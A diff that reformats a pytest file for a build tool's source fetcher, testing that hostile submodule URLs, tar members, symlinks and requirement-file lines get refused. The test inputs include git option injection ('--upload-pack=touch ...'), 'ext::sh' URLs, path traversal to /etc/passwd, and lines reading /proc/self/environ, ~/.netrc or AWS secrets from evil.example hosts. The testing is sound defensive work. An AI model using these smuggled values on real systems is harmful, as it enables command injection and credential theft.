@@ -10,9 +10,9 @@ from pathlib import Path
 import git
 import pytest
 
-from builder.source import pinned as source
-from builder.errors import SourceError
 from builder.config.matrix import Source
+from builder.errors import SourceError
+from builder.source import pinned as source
 
 
 @pytest.fixture()
@@ -23,17 +23,23 @@ def upstream(tmp_path, monkeypatch):
     (tmp_path / "up" / "sub").mkdir()
     (tmp_path / "up" / "sub" / "common.txt").write_text("packaging>=23\n")
     repo.git.add(A=True)
-    env = {"GIT_AUTHOR_DATE": "2026-01-02T03:04:05+00:00", "GIT_COMMITTER_DATE": "2026-01-02T03:04:05+00:00",
-           "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@e.org", "GIT_COMMITTER_NAME": "t",
-           "GIT_COMMITTER_EMAIL": "t@e.org"}
+    env = {
+        "GIT_AUTHOR_DATE": "2026-01-02T03:04:05+00:00",
+        "GIT_COMMITTER_DATE": "2026-01-02T03:04:05+00:00",
+        "GIT_AUTHOR_NAME": "t",
+        "GIT_AUTHOR_EMAIL": "t@e.org",
+        "GIT_COMMITTER_NAME": "t",
+        "GIT_COMMITTER_EMAIL": "t@e.org",
+    }
     with repo.git.custom_environment(**env):
         repo.git.commit("-q", "-m", "first")
     return repo
 
 
 def _src(repo, **kw):
-    base = dict(url=f"file://{repo.working_dir}", branch="k3", commit=repo.head.commit.hexsha,
-                package="p", version="1.0")
+    base = dict(
+        url=f"file://{repo.working_dir}", branch="k3", commit=repo.head.commit.hexsha, package="p", version="1.0"
+    )
     base.update(kw)
     return Source(**base)
 
@@ -80,9 +86,14 @@ def test_full_ref_names_only(upstream):
 
 # --- third-party sources ----------------------------------------------------------------------
 
-_ENV = {"GIT_AUTHOR_DATE": "2026-02-03T04:05:06+00:00", "GIT_COMMITTER_DATE": "2026-02-03T04:05:06+00:00",
-        "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@e.org", "GIT_COMMITTER_NAME": "t",
-        "GIT_COMMITTER_EMAIL": "t@e.org"}
+_ENV = {
+    "GIT_AUTHOR_DATE": "2026-02-03T04:05:06+00:00",
+    "GIT_COMMITTER_DATE": "2026-02-03T04:05:06+00:00",
+    "GIT_AUTHOR_NAME": "t",
+    "GIT_AUTHOR_EMAIL": "t@e.org",
+    "GIT_COMMITTER_NAME": "t",
+    "GIT_COMMITTER_EMAIL": "t@e.org",
+}
 
 
 def _repo(path: Path, files: dict[str, str], gitlinks: dict[str, tuple[str, str]] | None = None) -> git.Repo:
@@ -91,8 +102,9 @@ def _repo(path: Path, files: dict[str, str], gitlinks: dict[str, tuple[str, str]
         (path / name).parent.mkdir(parents=True, exist_ok=True)
         (path / name).write_text(text)
     if gitlinks:
-        (path / ".gitmodules").write_text("".join(f'[submodule "{p}"]\n\tpath = {p}\n\turl = {u}\n'
-                                                  for p, (u, _) in gitlinks.items()))
+        (path / ".gitmodules").write_text(
+            "".join(f'[submodule "{p}"]\n\tpath = {p}\n\turl = {u}\n' for p, (u, _) in gitlinks.items())
+        )
     repo.git.add(A=True)
     for p, (_, commit) in (gitlinks or {}).items():
         repo.git.update_index("--add", "--cacheinfo", f"160000,{commit},{p}")
@@ -104,8 +116,11 @@ def _repo(path: Path, files: dict[str, str], gitlinks: dict[str, tuple[str, str]
 @pytest.fixture()
 def third(tmp_path, upstream):
     leaf = _repo(tmp_path / "leaf", {"include/leaf.h": "int leaf;\n"})
-    lib = _repo(tmp_path / "lib", {"src/k.c": "int k;\n"},
-                {"deps/leaf": (f"file://{leaf.working_dir}", leaf.head.commit.hexsha)})
+    lib = _repo(
+        tmp_path / "lib",
+        {"src/k.c": "int k;\n"},
+        {"deps/leaf": (f"file://{leaf.working_dir}", leaf.head.commit.hexsha)},
+    )
     lib.create_tag("v1.0")
     # The main source names the dependency the way vLLM's CMake files do.
     (Path(upstream.working_dir) / "deps.cmake").write_text(f"GIT_TAG {lib.head.commit.hexsha}\n# also v1.0\n")
@@ -118,8 +133,13 @@ def third(tmp_path, upstream):
 def _tp(lib, **kw):
     from builder.config.matrix import ThirdParty
 
-    base = dict(url=f"file://{lib.working_dir}", commit=lib.head.commit.hexsha, ref=lib.head.commit.hexsha,
-                declared_in="deps.cmake", env="LIB_SRC_DIR")
+    base = dict(
+        url=f"file://{lib.working_dir}",
+        commit=lib.head.commit.hexsha,
+        ref=lib.head.commit.hexsha,
+        declared_in="deps.cmake",
+        env="LIB_SRC_DIR",
+    )
     base.update(kw)
     return ThirdParty(**base)
 
@@ -178,22 +198,34 @@ def test_archive_members_without_the_data_filter_keep_inside_the_tree(tmp_path):
     members = list(source._data_members(ok, tmp_path))
     assert [m.name for m in members] == ["pkg/a.py", "pkg/link", "pkg/hard"]
     assert members[0].mode == 0o755  # setuid dropped
-    for bad in ([("../evil", "file", b"x")], [("/etc/evil", "file", b"x")], [("pkg/l", "sym", "../../etc/passwd")],
-                [("pkg/l", "sym", "/etc/passwd")], [("h", "lnk", "../outside")]):
+    for bad in (
+        [("../evil", "file", b"x")],
+        [("/etc/evil", "file", b"x")],
+        [("pkg/l", "sym", "../../etc/passwd")],
+        [("pkg/l", "sym", "/etc/passwd")],
+        [("h", "lnk", "../outside")],
+    ):
         with pytest.raises(SourceError, match="outside the source tree"):
             list(source._data_members(_tar(bad), tmp_path))
 
 
 def test_git_reason_names_the_fatal_lines():
-    exc = git.GitCommandError(["git", "fetch"], 128, stderr=(
-        "fatal: detected dubious ownership in repository at '/srv/x'\nTo add an exception, call:\n"
-        "\tgit config --global --add safe.directory /srv/x\nfatal: Could not read from remote repository.\n\n"
-        "Please make sure you have the correct access rights\nand the repository exists."))
-    assert source.git_reason(exc) == ("detected dubious ownership in repository at '/srv/x'; "
-                                      "Could not read from remote repository.")
+    exc = git.GitCommandError(
+        ["git", "fetch"],
+        128,
+        stderr=(
+            "fatal: detected dubious ownership in repository at '/srv/x'\nTo add an exception, call:\n"
+            "\tgit config --global --add safe.directory /srv/x\nfatal: Could not read from remote repository.\n\n"
+            "Please make sure you have the correct access rights\nand the repository exists."
+        ),
+    )
+    assert source.git_reason(exc) == (
+        "detected dubious ownership in repository at '/srv/x'; Could not read from remote repository."
+    )
 
 
 # --- a tree is untrusted input: its URLs and paths never become git options (issue 21) ----------
+
 
 def _hostile_lib(tmp_path, url: str, path: str = "evil", leaf_commit: str = "1" * 40) -> git.Repo:
     return _repo(tmp_path / "hostile", {"src/k.c": "int k;\n"}, {path: (url, leaf_commit)})
@@ -212,8 +244,11 @@ def test_a_submodule_url_that_is_a_git_option_runs_no_host_command(third, upstre
     """The reported attack: `url = --upload-pack=touch /tmp/PWNED` ran the command via git fetch."""
     canary = tmp_path / "PWNED"
     lib = _hostile_lib(tmp_path, f"--upload-pack=touch {canary}")
-    with pytest.raises(SourceError, match=r"third-party source lib: submodule 'evil' in \.gitmodules: url "
-                                          r"'--upload-pack=.* is not an https:// or file:// git URL"):
+    with pytest.raises(
+        SourceError,
+        match=r"third-party source lib: submodule 'evil' in \.gitmodules: url "
+        r"'--upload-pack=.* is not an https:// or file:// git URL",
+    ):
         source.fetch_third_party("lib", _tp(lib), _pinned_naming(upstream, lib))
     assert not canary.exists()
 
@@ -222,15 +257,27 @@ def test_a_nested_hostile_submodule_url_is_refused_with_its_full_path(third, ups
     lib_ok, leaf = third
     canary = tmp_path / "PWNED"
     inner = _repo(tmp_path / "inner", {"x.h": "int x;\n"}, {"deep": (f"--upload-pack=touch {canary}", "1" * 40)})
-    outer = _repo(tmp_path / "outer", {"y.h": "int y;\n"},
-                  {"third/inner": (f"file://{inner.working_dir}", inner.head.commit.hexsha)})
+    outer = _repo(
+        tmp_path / "outer",
+        {"y.h": "int y;\n"},
+        {"third/inner": (f"file://{inner.working_dir}", inner.head.commit.hexsha)},
+    )
     with pytest.raises(SourceError, match=r"submodule 'third/inner/deep'"):
         source.fetch_third_party("lib", _tp(outer), _pinned_naming(upstream, outer))
     assert not canary.exists()
 
 
-@pytest.mark.parametrize("url", ["ext::sh -c touch% /tmp/x", "https://user:pw@example.org/x.git",
-                                 "ssh://example.org/x", "https://example.org/x y", "-u", "file://x;touch /tmp/x"])
+@pytest.mark.parametrize(
+    "url",
+    [
+        "ext::sh -c touch% /tmp/x",
+        "https://user:pw@example.org/x.git",
+        "ssh://example.org/x",
+        "https://example.org/x y",
+        "-u",
+        "file://x;touch /tmp/x",
+    ],
+)
 def test_a_submodule_url_outside_the_matrix_url_rule_is_refused(url):
     with pytest.raises(SourceError, match="is not an https:// or file:// git URL") as err:
         source._tree_url("lib", "https://example.org/lib.git", "sub", url)
@@ -238,7 +285,9 @@ def test_a_submodule_url_outside_the_matrix_url_rule_is_refused(url):
 
 
 def test_relative_submodule_urls_are_checked_after_resolution():
-    assert source._tree_url("lib", "https://example.org/o/lib.git", "s", "../dep.git") == "https://example.org/o/dep.git"
+    assert (
+        source._tree_url("lib", "https://example.org/o/lib.git", "s", "../dep.git") == "https://example.org/o/dep.git"
+    )
     with pytest.raises(SourceError, match="host path under an https:// source"):
         source._tree_url("lib", "https://example.org/lib.git", "s", "file:///home/me/secret.git")
 
@@ -260,6 +309,7 @@ def test_a_submodule_path_with_dotdot_in_a_real_tree_is_refused(third, upstream,
 
 
 # One test per git call site: an option-looking argument stays a positional (a path, a revision).
+
 
 def test_fetch_by_commit_treats_an_option_url_as_a_path(tmp_path, monkeypatch):
     monkeypatch.setenv("K3_CACHE_DIR", str(tmp_path / "cache"))
@@ -293,7 +343,8 @@ def test_cat_file_rev_parse_and_merge_base_take_no_options_from_arguments(upstre
 def test_gitmodules_values_with_newlines_cannot_forge_entries(tmp_path):
     lib = _repo(tmp_path / "nl", {"a.h": "x\n"})
     (Path(lib.working_dir) / ".gitmodules").write_text(
-        '[submodule "x"]\n\tpath = a\n\turl = "https://example.org/a\\nsubmodule.y.url=--upload-pack=id"\n')
+        '[submodule "x"]\n\tpath = a\n\turl = "https://example.org/a\\nsubmodule.y.url=--upload-pack=id"\n'
+    )
     lib.git.add(A=True)
     with lib.git.custom_environment(**_ENV):
         lib.git.commit("-q", "-m", "nl")
@@ -321,8 +372,13 @@ def test_every_git_command_ends_its_options_before_a_positional(third, upstream,
     pinned = source.fetch(_src(upstream))
     pinned.export(tmp_path / "main")
     source.fetch_third_party("lib", _tp(lib, ref="v2.0"), pinned).export(tmp_path / "tp")
-    ours = [c for c in seen if c[0] == "git" and len(c) > 1 and c[1] in
-            ("fetch", "ls-remote", "archive", "cat-file", "ls-tree", "config", "rev-parse", "merge-base")]
+    ours = [
+        c
+        for c in seen
+        if c[0] == "git"
+        and len(c) > 1
+        and c[1] in ("fetch", "ls-remote", "archive", "cat-file", "ls-tree", "config", "rev-parse", "merge-base")
+    ]
     assert {c[1] for c in ours} >= {"fetch", "ls-remote", "archive", "cat-file", "ls-tree", "config", "rev-parse"}
     for cmd in ours:
         words = cmd[2:]
@@ -334,16 +390,47 @@ def test_every_git_command_ends_its_options_before_a_positional(third, upstream,
 
 # --- requirement files: every spelling pip and uv accept, nothing outside the tree --------------
 
-@pytest.mark.parametrize("line", [
-    "--requirement=/proc/self/environ", "-r/proc/self/environ", "-r=/proc/self/environ", "-r /etc/passwd",
-    "--requirement /etc/passwd", "-c/etc/passwd", "--constraint=/etc/passwd", "-c ~/.netrc",
-    "-r https://evil.example/r.txt", "-r file:///etc/passwd", "-r ../../outside.txt", "-r \\\n  /etc/passwd",
-    "-e .", "--editable=/home/me/pkg", "-e git+https://evil.example/x", "-f /tmp/wheels", "--find-links=file:///x",
-    "-i file:///srv/index", "--index-url=/srv/simple", "--extra-index-url ${HOME}", "--trusted-host a/b",
-    "--pre", "--prefer-binary", "-Z", "--requir=x.txt", "--extra-index=https://x", "--config-settings=a=b",
-    "pkg @ file:///etc/passwd", "pkg@https://evil.example/p.whl", "/etc/passwd", "./local/pkg", "pkg.whl",
-    "foo==${AWS_SECRET_ACCESS_KEY}", "foo==1 --global-option=--x", "https://evil.example/x.tar.gz",
-])
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "--requirement=/proc/self/environ",
+        "-r/proc/self/environ",
+        "-r=/proc/self/environ",
+        "-r /etc/passwd",
+        "--requirement /etc/passwd",
+        "-c/etc/passwd",
+        "--constraint=/etc/passwd",
+        "-c ~/.netrc",
+        "-r https://evil.example/r.txt",
+        "-r file:///etc/passwd",
+        "-r ../../outside.txt",
+        "-r \\\n  /etc/passwd",
+        "-e .",
+        "--editable=/home/me/pkg",
+        "-e git+https://evil.example/x",
+        "-f /tmp/wheels",
+        "--find-links=file:///x",
+        "-i file:///srv/index",
+        "--index-url=/srv/simple",
+        "--extra-index-url ${HOME}",
+        "--trusted-host a/b",
+        "--pre",
+        "--prefer-binary",
+        "-Z",
+        "--requir=x.txt",
+        "--extra-index=https://x",
+        "--config-settings=a=b",
+        "pkg @ file:///etc/passwd",
+        "pkg@https://evil.example/p.whl",
+        "/etc/passwd",
+        "./local/pkg",
+        "pkg.whl",
+        "foo==${AWS_SECRET_ACCESS_KEY}",
+        "foo==1 --global-option=--x",
+        "https://evil.example/x.tar.gz",
+    ],
+)
 def test_a_requirement_line_that_reaches_outside_the_tree_is_refused_with_file_and_line(line):
     data = f"packaging>=23\n# fine\n{line}\n".encode()
     with pytest.raises(SourceError, match=r"^source requirement file req/x\.txt:3: .*refused") as err:
@@ -352,10 +439,12 @@ def test_a_requirement_line_that_reaches_outside_the_tree_is_refused_with_file_a
 
 
 def test_every_include_spelling_is_followed_and_index_options_are_kept_apart():
-    data = (b"-ra.txt\n-r=b.txt\n-r c.txt\n--requirement=d.txt\n--requirement e.txt\n-cf.txt\n--constraint=g.txt\n"
-            b"--extra-index-url https://flashinfer.ai/whl/\n-ihttps://x.example/simple\n--trusted-host x.example\n"
-            b"--no-index\nnumba == 0.65.0 # comment\nsix>=1.16.0; python_version > '3.11'\nfoo[a,b] >= 1, < 2 \\\n"
-            b"  ; sys_platform == 'linux'\npkg==1 --hash=sha256:" + b"0" * 64 + b"\n")
+    data = (
+        b"-ra.txt\n-r=b.txt\n-r c.txt\n--requirement=d.txt\n--requirement e.txt\n-cf.txt\n--constraint=g.txt\n"
+        b"--extra-index-url https://flashinfer.ai/whl/\n-ihttps://x.example/simple\n--trusted-host x.example\n"
+        b"--no-index\nnumba == 0.65.0 # comment\nsix>=1.16.0; python_version > '3.11'\nfoo[a,b] >= 1, < 2 \\\n"
+        b"  ; sys_platform == 'linux'\npkg==1 --hash=sha256:" + b"0" * 64 + b"\n"
+    )
     lines = source.requirement_lines("x.txt", data)
     assert [ln.value for ln in lines if ln.kind == "include"] == [f"{c}.txt" for c in "abcdefg"]
     assert [ln.lineno for ln in lines if ln.kind == "index"] == [8, 9, 10, 11]
@@ -379,6 +468,7 @@ def test_includes_in_every_spelling_are_read_and_checked(upstream):
 
 # --- commit time: SOURCE_DATE_EPOCH from the future ---------------------------------------------
 
+
 def test_a_commit_dated_2100_is_refused_in_one_line(upstream):
     """Every mtime in the context would be newer than the clock: ninja failed "manifest still dirty
     after 100 tries" (issue 21). Refused at the fetch, naming the source."""
@@ -386,14 +476,18 @@ def test_a_commit_dated_2100_is_refused_in_one_line(upstream):
     upstream.git.add(A=True)
     with upstream.git.custom_environment(**{**_ENV, "GIT_COMMITTER_DATE": "@4102444800 +0000"}):
         upstream.git.commit("-q", "-m", "from the future")
-    with pytest.raises(SourceError, match=r"at [0-9a-f]{12}: the commit is dated 2100-01-01T00:00:00Z, ahead of "
-                                          r"this host's clock .* by more than 300s; refused") as err:
+    with pytest.raises(
+        SourceError,
+        match=r"at [0-9a-f]{12}: the commit is dated 2100-01-01T00:00:00Z, ahead of "
+        r"this host's clock .* by more than 300s; refused",
+    ) as err:
         source.fetch(_src(upstream))
     assert "\n" not in err.value.message
 
 
 def test_a_clock_a_little_behind_the_commit_is_warned_about(monkeypatch):
     from builder import log
+
     warned = []
     monkeypatch.setattr(log, "warn", warned.append)
     assert source.commit_time("source x", 1_000_060, now=1_000_000) == 1_000_060
@@ -404,8 +498,9 @@ def test_a_clock_a_little_behind_the_commit_is_warned_about(monkeypatch):
         source.commit_time("source x", 1_000_301, now=1_000_000)
 
 
-@pytest.mark.parametrize("links", [{"evil": "/etc/passwd"}, {"up": "../../../../etc/passwd"},
-                                   {"a": "b", "b": "a"}, {"d/self": "../d/self"}])
+@pytest.mark.parametrize(
+    "links", [{"evil": "/etc/passwd"}, {"up": "../../../../etc/passwd"}, {"a": "b", "b": "a"}, {"d/self": "../d/self"}]
+)
 def test_a_hostile_symlink_in_the_source_is_one_source_error(upstream, tmp_path, links):
     """Absolute and escaping links (tarfile's AbsoluteLinkError, LinkOutsideDestinationError) and a
     link loop were tracebacks (issue 21, defect 5); now one SourceError, nothing outside written."""
@@ -424,13 +519,16 @@ def test_a_hostile_symlink_in_the_source_is_one_source_error(upstream, tmp_path,
     except SourceError as exc:
         assert "\n" not in exc.message and "source archive" in exc.message
     else:  # a loop inside the tree is only a dangling pair of links: harmless, and it stays inside
-        assert all(os.path.realpath(p).startswith(str(tmp_path / "out")) or not os.path.exists(p)
-                   for p in (tmp_path / "out").rglob("*"))
+        assert all(
+            os.path.realpath(p).startswith(str(tmp_path / "out")) or not os.path.exists(p)
+            for p in (tmp_path / "out").rglob("*")
+        )
     assert not (tmp_path / "passwd").exists()
 
 
 def test_the_fallback_filter_turns_a_symlink_loop_into_a_source_error(tmp_path, monkeypatch):
     """Debian 12's Python 3.11.2 path: Path.resolve raises RuntimeError on a loop."""
+
     def loop(*args, **kwargs):
         raise RuntimeError("Symlink loop from '/x/a'")
 
@@ -444,10 +542,13 @@ def test_a_full_cache_disk_is_resource_exhaustion_not_bad_input(upstream, tmp_pa
     import subprocess
 
     from builder.errors import HostResources, failure_kind
+
     assert failure_kind("fatal: write error: No space left on device", SourceError) is HostResources
     assert failure_kind("error: unable to create file x: Read-only file system", SourceError) is HostResources
-    assert failure_kind("fatal: unable to access 'https://x/': Could not resolve host: x", SourceError) \
-        .__name__ == "Unreachable"
+    assert (
+        failure_kind("fatal: unable to access 'https://x/': Could not resolve host: x", SourceError).__name__
+        == "Unreachable"
+    )
     assert failure_kind("fatal: not a git repository", SourceError) is SourceError
     (Path(upstream.working_dir) / "big.bin").write_bytes(os.urandom(3 << 20))  # incompressible
     upstream.git.add(A=True)
@@ -471,6 +572,7 @@ def test_the_archive_is_streamed_not_held_in_memory(upstream, tmp_path):
     limit, issue 21): the export's peak memory now stays far below the file's size."""
     import subprocess
     import sys
+
     with (Path(upstream.working_dir) / "large.bin").open("wb") as fh:
         fh.truncate(200 << 20)  # zeros: tiny in git, 200 MB in the archive
     upstream.git.add(A=True)
@@ -482,10 +584,19 @@ def test_the_archive_is_streamed_not_held_in_memory(upstream, tmp_path):
         f"commit='{upstream.head.commit.hexsha}', package='p', version='1.0'))\n"
         "before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
         f"pinned.export(__import__('pathlib').Path('{tmp_path / 'out'}'))\n"
-        "print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)\n")
+        "print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)\n"
+    )
     env = {**os.environ, "K3_CACHE_DIR": str(tmp_path / "cache")}
-    grown_kib = int(subprocess.run([sys.executable, "-c", script], env=env, capture_output=True, text=True,
-                                   check=True, cwd=Path(source.__file__).parents[1]).stdout.split()[-1])
+    grown_kib = int(
+        subprocess.run(
+            [sys.executable, "-c", script],
+            env=env,
+            capture_output=True,
+            text=True,
+            check=True,
+            cwd=Path(source.__file__).parents[1],
+        ).stdout.split()[-1]
+    )
     size = (tmp_path / "out" / "large.bin").stat().st_size
     (tmp_path / "out" / "large.bin").unlink()  # 200 MB: not kept among pytest's last runs
     assert size == 200 << 20
